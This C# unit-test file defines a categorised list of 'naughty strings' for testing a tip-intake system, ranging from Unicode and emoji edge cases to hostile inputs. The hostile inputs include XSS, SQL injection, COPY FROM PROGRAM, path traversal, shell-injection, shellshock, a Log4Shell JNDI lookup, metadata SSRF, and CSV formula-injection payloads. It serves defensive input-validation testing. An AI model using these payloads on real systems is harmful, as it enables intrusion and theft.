using System.Globalization;
using System.Text;

namespace TipIntake.UnitTests.Platform;

/// <summary>A text that programs stumble over, and the class of trouble that it stands for.</summary>
internal sealed record NaughtyString(string Kind, string Text);

/// <summary>What people, pranksters and attackers type: our own examples for each class. All of them may be a tip.</summary>
internal static class NaughtyStrings
{
    public static IReadOnlyList<NaughtyString> All { get; } =
    [
        .. Kind("nothing", "", " ", "\t", "\n", "\r\n", "\0", "\u00A0", "\u3000", "\u200B", "\uFEFF", "\u200E\u200F", "\u2028"),
        .. Kind("reserved words",
            "null", "NULL", "nil", "None", "undefined", "undef", "void 0", "true", "FALSE", "yes", "Nan", "Infinity", "this", "self", "class",
            "default", "hasOwnProperty", "__proto__", "constructor", "toString", "[object Object]", "System.Object", "Nullable`1", "con",
            "PRN", "aux.txt", "NUL", "COM1", "LPT9", "admin", "root", "dbo", "pg_catalog", "information_schema", "%00", "\\N", "EOF", "--"),
        .. Kind("numbers",
            "0", "-0", "00042", "1.0", "-1.50", "1e3", "1E-3", "9007199254740993", "-9223372036854775809", "18446744073709551616",
            "4294967296", "0x1F", "0b11", "0o17", "1_000", "1,000.50", "1.000,50", "1 000", "½", "²", "٣٤٥", "१२३", "一二三", "Ⅻ", "∞", "1/0", "0/0",
            "NaN", "-Infinity", "1.7976931348623157e309", "5e-325", "99999999999999999999999999999999999999999999", "1..2", "+1", "1-1",
            "2026-02-30", "0000-00-00", "1e1000000000"),
        .. Kind("punctuation",
            "!@#$%^&*()_+-=[]{}|;':\",./<>?", "'", "\"", "''", "\"\"", "'\"'", "`", "``", "\\", "\\\\", "\\\"", "/", "//", "${", "}}", "{{", "%", "%%",
            "&", "&&", ";", ";;", "|", "¿¡§¶†‡•…‰", "«»‹›„“”‚‘’", "¢£¤¥€₿", "±×÷≠≤≥∑∏√", "⁰¹²₀₁₂", "␀␁␂␡", "¸˛Ç◊ı˜Â¯˘¿"),
        .. Kind("letters of the world",
            "Ñandú, façade, Ærøskøbing", "Żółta torba z Łodzi", "Голубая сумка у вокзала", "Μπλε τσάντα", "Պայուսակ", "ჩანთა", "تعرفت على الحقيبة",
            "זיהיתי את התיק", "این کیف را می‌شناسم", "मैं इस थैले को पहचानता हूँ", "ฉันจำกระเป๋าใบนี้ได้", "我认得这个包", "このバッグを知っています", "이 가방을 알아요",
            "ᠮᠣᠩᠭᠣᠯ", "ကျွန်တော် သိတယ်", "ይህን ቦርሳ አውቃለሁ", "ᏣᎳᎩ", "ܫܠܡܐ", "𐎀𐎁𐎂", "𒀀𒁀", "ⵜⴰⵎⴰⵣⵉⵖⵜ", "ꯃꯤꯇꯩ", "ǅ ǈ ǋ ﬁ ﬂ ß ẞ", "İıIi", "ŉ ǰ ΐ"),
        .. Kind("two bytes and more",
            "田中さんに聞いてください", "部落格", "사회과학원", "찦차를 타고 온 펲시맨", "𠜎𠜱𠝹𠱓", "㌀㌁㌂", "豈更車", "ﾊﾝｶｸ", "ＦＵＬＬ　ＷＩＤＴＨ", "𝒮𝒸𝓇𝒾𝓅𝓉", "🄰🄱🄲", "ㅤ", "〱〲〳"),
        .. Kind("emoji",
            "😀", "👍🏽", "👩‍👩‍👧‍👦", "🏳️‍🌈", "🏴󠁧󠁢󠁳󠁣󠁴󠁿", "🇵🇹🇪🇺", "🇵", "1️⃣", "❤️‍🔥", "☺︎☺️", "🧑🏿‍🚀", "👨‍", "‍👨", "\uFE0F", "🤷🏻‍♂️🤷", "😀\u0301",
            string.Concat(Enumerable.Repeat("👩‍👩‍👧‍👦", 100))),
        .. Kind("right to left",
            "שלום abc עולם", "abc \u202Egpj.exe", "\u202Bזה\u202C", "\u2067פה\u2069", "\u2066a\u2067ב\u2069", "\u2069\u2069\u2069", "\u202E\u202E\u202E",
            "(עברית)", "1 + 2 = ٣", "\u200Fabc", "abc\u200E", "\u061C١٢٣", "ﷺ ﷽", string.Concat(Enumerable.Repeat("\u2067", 200)) + "x"),
        .. Kind("zero width",
            "a\u200Bb", "a\u200Cb", "a\u200Db", "a\u2060b", "a\uFEFFb", "\uFEFFabc", "abc\uFEFF", "a\u00ADb", "a\u034Fb", "a\u180Eb", "a\u115F\u1160b",
            "a\u2061\u2062\u2063b", "a\uFFF9b\uFFFAc\uFFFB", "a\U000E0001\U000E0041b", new string('\u200B', 500) + "x"),
        .. Kind("spaces",
            "a\u00A0b", "a\u1680b", "a\u2000\u2001\u2002\u2003\u2004\u2005b", "a\u2006\u2007\u2008\u2009\u200Ab", "a\u2028b", "a\u2029b", "a\u202Fb",
            "a\u205Fb", "a\u3000b", "a\vb", "a\fb", "a\u0085b", "a\tb", "a\rb", "a\r\nb", "a\n\rb", "  a  ", "\u2003a\u2003", "a" + new string(' ', 500) + "b"),
        .. Kind("marks",
            "e\u0301", "é", "A\u030A Å \u212B", "\u0301", "\u0301abc", "a\u0316\u0301 a\u0301\u0316", "q\u0307\u0323", "q\u0323\u0307",
            Storm(30), Storm(31), Storm(500), string.Join(' ', Enumerable.Repeat(Storm(12), 40)), "\u1100\u1161\u11A8 각", "\u0958 \u0915\u093C",
            "\u0344", "\u1EBF e\u0302\u0301", "\u20DD\u20E3", "क्षि", "ก็็็็็็็็็็", "\U0001D15E", "\u2126\u2000"),
        .. Kind("controls",
            "a\0b", "\0\0\0", "a\u0001b", "a\bb", "a\u0007b", "a\u001Bb", "a\u007Fb", "a\u0080\u009Fb", "\u0004", "\u001A", "a\u0000",
            string.Concat(Enumerable.Range(0, 0x20).Select(c => (char)c)), string.Concat(Enumerable.Range(0x7F, 0x21).Select(c => (char)c))),
        .. Kind("half characters",
            "\uD800", "\uDFFF", "a\uD83Db", "a\uDE00b", "\uDE00\uD83D", "\uD83D\uD83D\uDE00", "\uD83D\uDE00\uDE00", "\uD800\uD800", "\uD800\u0301", "\uD83D\0\uDE00",
            new string('\uD800', 300), new string('\uDC00', 300)),
        .. Kind("odd scalars",
            "\uFFFD", "\uFFFE", "\uFFFF", "\uFDD0\uFDEF", "\uE000\uF8FF", "\U000F0000\U0010FFFD", "\U0010FFFF", "\U0001FFFE", "\u0378", "\uFFFC", "a\uFFFDb"),
        .. Kind("scripts",
            "<script>alert(1)</script>", "\"><svg onload=alert(1)>", "' onfocus='alert(1)' autofocus='", "</textarea><script>x()</script>",
            "<img src=x onerror=alert(document.domain)>", "<a href=\"javascript:alert(1)\">x</a>", "javascript:alert(1)", "jAvAsCrIpT&colon;alert(1)",
            "<iframe srcdoc='<script>1</script>'>", "<style>@import'//example.org'</style>", "<!--<script>-->", "]]><x>", "<x:y xmlns:x='z'>",
            "&lt;b&gt;", "&#60;b&#62;", "&amp;amp;", "<b", "＜script＞", "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "<%= 7*7 %>", "#{7*7}",
            "data:text/html,<script>1</script>", "expression(alert(1))", "<math><mi//xlink:href=\"data:x\">", "\u2028alert(1)//"),
        .. Kind("queries",
            "'; DROP TABLE tips; --", "' OR '1'='1", "1; SELECT pg_sleep(10)", "Robert'); --", "\\'; --", "$$x$$", "$1", ":name", "@p0", "?", "%' OR '%'='",
            "_%", "/* x */", "';COPY x FROM PROGRAM 'id';--", "{\"$gt\":\"\"}", "*)(uid=*))(|(uid=*", "' or count(/*)=1 or 'a'='b", "\\u0000", "E'\\x00'", "::text"),
        .. Kind("paths and commands",
            "../../../../etc/passwd", "..\\..\\windows\\win.ini", "%2e%2e%2f%2e%2e%2f", "....//....//", "/dev/null", "file:///etc/hosts", "\\\\host\\share",
            "C:\\con\\con", "~root", "$(id)", "`id`", "; ls -la", "| cat", "&& true", "$HOME", "%PATH%", "() { :; }; echo x", "-rf", "--help", "\n.\n",
            "<!ENTITY x SYSTEM 'file:///etc/hosts'>", "${jndi:ldap://example.org/a}", "http://169.254.169.254/", "=cmd|'/c calc'!A0", "=1+1", "+1+1", "-1+1",
            "@SUM(1)", "\t=1", "\r=1"),
        .. Kind("terminals",
            "\u001B[31mred\u001B[0m", "\u001B[2J\u001B[H", "\u001B]0;title\u0007", "\u009B31m", "a\b\b\bxyz", "\u001B]8;;http://example.org\u0007x\u001B]8;;\u0007",
            "\u0007\u0007\u0007", "\u001Bc", "a\u001B[1Ab", "\r\u001B[K"),
        .. Kind("formats",
            "%s%s%s%n", "%d %x %p", "%1$s", "{0}", "{0:X}", "{1000000000}", "{{0}}", "{PropertyValue}", "{limit}", "{name!r}", "$'\\n'", "\\x41\\u0041", "\\0", "%c0%af",
            "{", "}", "{}", "{{}", "[]", "@Model", "@(1+1)", "~~x~~ **y** [z](http://example.org)"),
        .. Kind("protocols",
            "a\r\nSet-Cookie: x=y", "a\nHost: example.org", "a%0d%0aX: y", "GET / HTTP/1.1\r\n\r\n", "a;b=c", "filename=\"x\"; y", "=?utf-8?B?eA==?=", "\r\n.\r\n",
            "BEGIN:VCARD", "a,b,\"c\"\"d\"\n1,2,3", "data: x\n\n", "-----BEGIN PRIVATE KEY-----"),
        .. Kind("other shapes of letters",
            "ɐ ǝlqǝnʇ ʎllɐʇoʇ", "uʍop ǝpᴉsdn", "ᴛɪɴʏ ᴄᴀᴘꜱ", "ⓑⓤⓑⓑⓛⓔⓢ", "𝕕𝕠𝕦𝕓𝕝𝕖", "ᵗⁱⁿʸ", "b⃣o⃣x⃣", "s̶t̶r̶u̶c̶k̶", "pаypаl", "раураl", "аpple", "ᎪΑАA", "l1I|", "⠃⠇⠥⠑"),
        .. Kind("faces", "(╯°□°)╯︵ ┻━┻", "¯\\_(ツ)_/¯", "ಠ_ಠ", "ʕ•ᴥ•ʔ", "(ಥ﹏ಥ)", "ヽ(´ー`)ノ", "( ͡° ͜ʖ ͡°)", "┬─┬ノ( º _ ºノ)"),
        .. Kind("long", new('a', 4_000), new('a', 4_001), new('中', 4_000), string.Concat(Enumerable.Repeat("😀", 4_000)), new('\0', 4_000), new('\n', 4_000),
            new('"', 4_000), new('\\', 4_000), new('<', 4_000), string.Concat(Enumerable.Repeat("a ", 2_000)), new('ﷺ', 3_000)),
        .. Kind("cultures", "ı", "İ", "ss/ß", "ǆ", "\u03C3\u03C2", "I\u0307", "Ꞌ", "١٢٣٫٤٥", "12/31/1999", "31.12.1999", "1,5", CultureInfo.InvariantCulture.DisplayName),
    ];

    private static string Storm(int marks)
    {
        var text = new StringBuilder("z");
        for (var i = 0; i < marks; i++)
        {
            text.Append((char)(0x0300 + i * 7 % 0x34));
        }

        return text.ToString();
    }

    private static IEnumerable<NaughtyString> Kind(string kind, params string[] texts) => texts.Select(t => new NaughtyString(kind, t));
}
